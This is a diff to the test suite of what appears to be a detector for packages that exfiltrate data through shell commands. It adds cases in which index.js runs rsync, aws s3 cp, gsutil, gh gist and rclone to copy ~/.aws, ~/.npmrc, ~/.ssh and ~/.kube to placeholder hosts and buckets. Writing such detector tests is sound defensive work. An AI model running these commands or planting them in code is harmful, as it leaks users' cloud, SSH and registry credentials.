@@ -65,6 +65,17 @@ examine(sendsWithACommand, {
       weight: 'proof',
       says: ['the environment'],
     },
+    ...[
+      'rsync -az ~/.aws u@a.invalid:/srv',
+      'aws s3 cp ~/.npmrc s3://a/',
+      'gsutil cp -r ~/.ssh gs://a/',
+      'gh gist create ~/.npmrc',
+      'rclone copy ~/.kube a:b',
+    ].map(line => ({
+      when: `files of secrets are copied away: ${line}`,
+      files: { 'index.js': `require('child_process').execSync(${JSON.stringify(line)})` },
+      weight: 'proof' as const,
+    })),
   ],
   silent: [
     {
@@ -112,5 +123,14 @@ examine(sendsWithACommand, {
     { when: 'a plain variable is in the address', files: hook('curl -s https://a.invalid/$npm_package_version.tgz -o x') },
     { when: 'it goes to the own machine', files: run(`cp.exec('env | curl -d @- http://localhost:8080')`) },
     { when: 'a file of data is uploaded', files: run(`cp.execSync('curl -T report.json https://a.invalid')`) },
+    ...[
+      'aws s3 cp dist s3://a/ --recursive',
+      'gsutil -m rsync -r build gs://a',
+      'gh gist create notes.md',
+      'rsync -a --exclude .npmrc dist/ u@a.invalid:/srv',
+    ].map(line => ({
+      when: `what was built is copied away: ${line}`,
+      files: { 'index.js': `require('child_process').execSync(${JSON.stringify(line)})` },
+    })),
   ],
 });
